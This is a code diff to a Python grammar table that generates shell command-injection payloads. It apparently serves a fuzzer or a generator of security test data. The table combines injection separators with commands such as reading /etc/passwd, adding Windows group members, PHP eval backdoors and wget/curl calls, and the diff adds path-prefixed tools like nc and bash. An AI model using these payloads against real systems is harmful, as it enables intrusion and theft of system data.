@@ -61,10 +61,12 @@ def _echoed(chance: Chance) -> str:
 SHELL_FORMS: Final[Rules] = {
     "echoed": _echoed,
     "opener": [";", ";", "|", "|", "&", "&&", "||", "\n", "'|", "\"|", "\";", "';", "\"&&", "'&&", "\"&", ")|", "$(", "`", "+|+", ", ;", "-v;", "\\n", "x|", "1;", "'.", "\"."],
-    "closer": ["", "", "", "", " ", "#", " #", "|", "&", ";", "'", "\"", "|rem ", "|rem", " rem", "\"|", "'|", "\\n", "|| x", "`", ")", ";#", "&'", "\u0000", ".'", "//"],
-    "simple": ["id", "id", "ls", "ls -l /«folder»", "ls /«folder»", "ls -la", "dir", "dir c:\\", "dir c:/", "pwd", "uname", "uname -a", "uname >«rnd»", "rm «rnd»", "cat /etc/passwd", "cat /etc/hosts", "cat /etc/issue", "cat «file»", "/usr/bin/id", "/bin/ls", "usr/bin/id", "whoami", "netstat -an", "ipconfig", "ifconfig", "ps", "ps -ef",
+    "closer": ["", "", "", "", " ", "\n", "\n", "#", " #", "|", "&", ";", "'", "\"", "|rem ", "|rem", " rem", "\"|", "'|", "\\n", "|| x", "`", ")", ";#", "&'", "\u0000", ".'", "//"],
+    "simple": ["id", "id", "ls", "ls -l /«folder»", "ls /«folder»", "ls -la", "dir", "dir c:\\", "dir c:/", "pwd", "uname", "uname -a", "uname >«rnd»", "rm «rnd»", "cat /etc/passwd", "cat /etc/hosts", "cat /etc/issue", "cat «file»", "/usr/bin/id", "/bin/ls", "usr/bin/id", "«bin»«unix_tool»", "«bin»«unix_tool»", "«bin»«unix_tool» «file»", "whoami", "netstat -an", "ipconfig", "ifconfig", "ps", "ps -ef",
                "sleep «d»", "sleep «small»", "ping -n «d» «ip»", "ping -c «d» «ip»", "ping -w «nn» -n «d» «ip»", "ping -i «small» 127.0.0.1", "timeout «d»", "net user", "net localgroup «noun» «word» /add", "net view", "type c:\\boot.ini", "type %windir%\\win.ini", "echo «rnd»", "echo «rnd»;echo", "touch /tmp/«rnd»", "chmod 777 /tmp/«rnd».sh", "/tmp/«rnd».sh >/dev/null", "system('«simple»')", "exec('«simple»')", "passthru('id')",
                "nslookup «host»", "wget «host»", "curl «host»", "perl -e 'print \"x\"x«nn»'", "perl -e 'print \"%p\" x «small»'", "phpinfo()", "eval($_post['«rnd»']);", "«echoed»", "«echoed»", "«echoed»", "«echoed»", "«echoed»", "«echoed»", "tail /var/log/messages", "cp «file» «file»", "mail «email»", "id"],
+    "bin": ["/bin/", "/usr/bin/", "/sbin/", "/usr/sbin/", "/usr/local/bin/", "/???/", "bin/", "usr/bin/", "../bin/"],
+    "unix_tool": ["id", "ls", "cat", "uname", "whoami", "ps", "env", "netstat", "ifconfig", "wget", "curl", "nc", "ping", "sh", "bash", "perl", "python3", "touch", "sleep", "w", "df", "find", "hostname"],
     "folder": ["", "etc", "tmp", "home", "home/*", "var/www", "bin", "usr", "root", "opt"],
     "bare_command": ["«opener»«simple»«closer»", "«opener»«simple»«closer»", "«opener» «simple»«closer»", "«opener» «simple» «closer»", "«opener»«simple»", "«opener» «simple»", "«opener»«simple»«opener»«simple»", "<!--#exec cmd=\"«simple»\"-->", "«word»«opener»«simple»«closer»", "«n»«opener»«simple»«closer»", "«file»«opener»«simple»|", "«file»|«simple»|", "`«simple»`", "$(«simple»)", "«echoed»"],
 }  # fmt: skip
